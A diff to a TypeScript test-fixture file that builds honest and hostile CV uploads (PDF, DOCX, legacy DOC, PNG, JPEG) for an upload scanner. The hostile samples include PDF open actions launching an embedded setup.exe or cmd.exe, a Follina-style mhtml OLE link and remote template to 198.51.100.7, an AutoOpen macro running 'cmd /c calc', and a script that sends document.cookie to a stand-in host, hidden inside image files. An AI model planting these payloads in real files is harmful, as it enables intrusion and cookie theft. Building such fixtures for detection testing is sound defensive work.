@@ -1,4 +1,4 @@
-import { zipSync } from 'fflate';
+import { zipSync, zlibSync } from 'fflate';
 
 /**
  * Files built in the tests, honest and hostile: a CV as each program writes it, and each way
@@ -248,3 +248,215 @@ export function docxNotZip(): Uint8Array<ArrayBuffer> {
 export function docxWithExecutable(): Uint8Array<ArrayBuffer> {
   return docxBytes({ 'word/embeddings/setup.exe': concat(encode('MZ'), new Uint8Array(200)) });
 }
+
+// Hostile and honest variants for the active-content checks (docs/product.md "Forms: fields and uploads").
+
+const latin1Bytes = (text: string) => Uint8Array.from(text, (char) => char.charCodeAt(0));
+
+/** One object of `pdfOf`: a dictionary, or a dictionary with stream data (its `/Length` is written). */
+export type PdfObject = string | { dict: string; data: Uint8Array };
+
+/**
+ * A PDF of these objects (numbered from 1; the first is the catalog) with a true
+ * cross-reference table; `after` is appended after `%%EOF`.
+ */
+export function pdfOf(objects: PdfObject[], after: Uint8Array = new Uint8Array()): Uint8Array<ArrayBuffer> {
+  const parts: Uint8Array[] = [latin1Bytes('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n')];
+  let length = parts[0]?.length ?? 0;
+  const offsets: number[] = [];
+  objects.forEach((object, index) => {
+    offsets.push(length);
+    const piece =
+      typeof object === 'string'
+        ? latin1Bytes(`${index + 1} 0 obj\n${object}\nendobj\n`)
+        : concat(
+            latin1Bytes(`${index + 1} 0 obj\n<< ${object.dict} /Length ${object.data.length} >>\nstream\n`),
+            object.data,
+            latin1Bytes('\nendstream\nendobj\n'),
+          );
+    parts.push(piece);
+    length += piece.length;
+  });
+  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
+  parts.push(latin1Bytes(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`), after);
+  return concat(...parts);
+}
+
+const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'];
+
+/** A program's first bytes: what an attacker attaches. */
+export const executable = () => concat(encode('MZ'), new Uint8Array(62), encode('This program cannot be run in DOS mode.'));
+
+/** A PDF that runs JavaScript when opened and carries an executable (an embedded file named setup.exe). */
+export function pdfWithOpenActionScript(): Uint8Array<ArrayBuffer> {
+  return pdfOf([
+    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /EmbeddedFiles 5 0 R >> >>',
+    ...PAGES,
+    '<< /Type /Action /S /JavaScript /JS (this.exportDataObject\\({ cName: "setup.exe", nLaunch: 2 }\\);) >>',
+    '<< /Names [(setup.exe) 6 0 R] >>',
+    '<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>',
+    { dict: '/Type /EmbeddedFile', data: executable() },
+  ]);
+}
+
+/** The same script with its names written in `#xx` escapes, as a filter dodger writes them. */
+export function pdfWithEscapedScript(): Uint8Array<ArrayBuffer> {
+  return pdfOf(['<< /Type /Catalog /Pages 2 0 R /O#70enAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>', ...PAGES]);
+}
+
+/** An open action that launches a program, inside a compressed object stream: out of sight of a plain search of the bytes. */
+export function pdfWithScriptInObjectStream(): Uint8Array<ArrayBuffer> {
+  const header = '9 0 ';
+  return pdfOf([
+    '<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>',
+    ...PAGES,
+    {
+      dict: `/Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode`,
+      data: zlibSync(encode(`${header}<< /S /Launch /F (cmd.exe) >>`)),
+    },
+  ]);
+}
+
+/**
+ * An honest PDF as current writers make it: a destination as its open action, a link to a web
+ * page, and its page objects in a compressed object stream.
+ */
+export function pdfHonestWithObjectStream(): Uint8Array<ArrayBuffer> {
+  const page =
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.linkedin.com/in/giulia) >> >>] >>';
+  const header = '9 0 ';
+  return pdfOf([
+    '<< /Type /Catalog /Pages 2 0 R /OpenAction [9 0 R /Fit] >>',
+    '<< /Type /Pages /Kids [9 0 R] /Count 1 >>',
+    { dict: `/Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode`, data: zlibSync(encode(`${header}${page}`)) },
+    // Page text with the words a developer's CV has, uncompressed.
+    { dict: '', data: encode('BT /F1 12 Tf 72 720 Td (Skills: HTML/CSS/JavaScript, /JS frameworks) Tj ET') },
+  ]);
+}
+
+/** A PDF with a ZIP holding an executable appended after its `%%EOF`. */
+export function pdfWithAppendedZip(): Uint8Array<ArrayBuffer> {
+  return concat(pdfBytes(), zipSync({ 'setup.exe': executable() }));
+}
+
+const RELS_HEAD =
+  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">';
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const rels = (...relationships: string[]) => encode(`${RELS_HEAD}${relationships.join('')}</Relationships>`);
+
+/** Word's document relationships with links a CV has: a web profile and an e-mail address. */
+export const honestDocumentRels = () =>
+  rels(
+    `<Relationship Id="rId1" Type="${REL}/styles" Target="styles.xml"/>`,
+    `<Relationship Id="rId2" Type="${REL}/hyperlink" Target="https://www.linkedin.com/in/giulia" TargetMode="External"/>`,
+    `<Relationship Id="rId3" Type="${REL}/hyperlink" Target="mailto:giulia@example.com" TargetMode="External"/>`,
+    `<Relationship Id="rId4" Type="${REL}/image" Target="media/image1.png"/>`,
+  );
+
+/** A DOCX that loads its template from a web server when opened (remote template injection). */
+export function docxWithRemoteTemplate(): Uint8Array<ArrayBuffer> {
+  return docxBytes({
+    'word/settings.xml': encode(
+      '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
+    ),
+    'word/_rels/settings.xml.rels': rels(
+      `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://198.51.100.7/template.dotm" TargetMode="External"/>`,
+    ),
+  });
+}
+
+/** The "Follina" pattern: an external OLE object whose target is an `mhtml:` address. */
+export function docxFollina(): Uint8Array<ArrayBuffer> {
+  return docxBytes({
+    'word/_rels/document.xml.rels': rels(
+      `<Relationship Id="rId996" Type="${REL}/oleObject" Target="mhtml:http://198.51.100.7/index.html!x-usc:http://198.51.100.7/index.html" TargetMode="External"/>`,
+    ),
+  });
+}
+
+/** The same external object with its attribute written in character references, as an XML parser reads it. */
+export function docxExternalInEntities(): Uint8Array<ArrayBuffer> {
+  return docxBytes({
+    'word/_rels/document.xml.rels': rels(
+      `<Relationship Id="rId1" Type="${REL}/image" Target="http://198.51.100.7/track.png" TargetMode="&#69;xternal"/>`,
+    ),
+  });
+}
+
+/** A DOCX with an embedded OLE package (a program wrapped in an OLE object). */
+export function docxWithOlePackage(): Uint8Array<ArrayBuffer> {
+  return docxBytes({
+    'word/embeddings/oleObject1.bin': concat(Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), executable()),
+    'word/_rels/document.xml.rels': rels(`<Relationship Id="rId5" Type="${REL}/oleObject" Target="embeddings/oleObject1.bin"/>`),
+  });
+}
+
+/** An honest DOCX: links to a web profile and an e-mail address, and a picture. */
+export function docxHonest(): Uint8Array<ArrayBuffer> {
+  return docxBytes({
+    '_rels/.rels': rels(`<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`),
+    'word/_rels/document.xml.rels': honestDocumentRels(),
+    'word/media/image1.png': pngBytes(400, 400),
+  });
+}
+
+/** A Word 97–2003 document (OLE2 compound file) with a VBA project, as a macro dropper sends it. */
+export function legacyDocWithMacros(): Uint8Array<ArrayBuffer> {
+  const header = new Uint8Array(512);
+  header.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
+  return concat(
+    header,
+    encode('Macros\0VBA\0_VBA_PROJECT\0ThisDocument\0Sub AutoOpen()\r\nShell "cmd /c calc"\r\nEnd Sub'),
+    new Uint8Array(1024),
+  );
+}
+
+const HTML = '<html><body><script>fetch("https://198.51.100.7/?c="+document.cookie)</script></body></html>';
+
+/** PNG chunks, with the same layout `pngBytes` writes. */
+const pngChunk = (type: string, data: Uint8Array) => concat(u32(data.length), encode(type), data, u32(0));
+
+/** A PNG with an HTML page after its IEND chunk. */
+export const pngWithHtmlAfterEnd = () => concat(pngBytes(400, 300), encode(HTML));
+
+/** A PNG whose text chunk holds an HTML page; `compressed` puts it in a zTXt chunk. */
+export function pngWithHtmlText(compressed = false): Uint8Array<ArrayBuffer> {
+  const png = pngBytes(400, 300);
+  const text = compressed
+    ? pngChunk('zTXt', concat(encode('Comment\0'), Uint8Array.of(0), zlibSync(encode(HTML))))
+    : pngChunk('tEXt', encode(`Comment\0${HTML}`));
+  // After IHDR (8 + 25 bytes), before the data.
+  return concat(png.subarray(0, 33), text, png.subarray(33));
+}
+
+/** An honest PNG with the text chunks cameras and editors write, XMP included. */
+export function pngHonestWithText(): Uint8Array<ArrayBuffer> {
+  const png = pngBytes(400, 300);
+  const xmp =
+    '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>';
+  return concat(
+    png.subarray(0, 33),
+    pngChunk('tEXt', encode('Software\0GIMP 2.10')),
+    pngChunk('iTXt', encode(`XML:com.adobe.xmp\0\0\0\0\0${xmp}`)),
+    pngChunk('zTXt', concat(encode('Comment\0'), Uint8Array.of(0), zlibSync(encode('Curriculum photo, 2025')))),
+    png.subarray(33),
+  );
+}
+
+/** A JPEG with an HTML page after its end marker (FF D9). */
+export const jpegWithHtmlAfterEnd = () => concat(jpegBytes(800, 600), encode(HTML));
+
+/** A JPEG whose comment segment (FF FE) holds an HTML page. */
+export function jpegWithHtmlComment(): Uint8Array<ArrayBuffer> {
+  const jpeg = jpegBytes(800, 600);
+  const comment = encode(HTML);
+  return concat(
+    jpeg.subarray(0, 2),
+    Uint8Array.of(0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 0xff),
+    comment,
+    jpeg.subarray(2),
+  );
+}
+
+/** A phone's JPEG with a second picture (an HDR gain map) after the first one's end, as Multi-Picture Format writes it. */
+export const jpegWithGainMap = () => concat(jpegBytes(4032, 3024), jpegBytes(1008, 756));
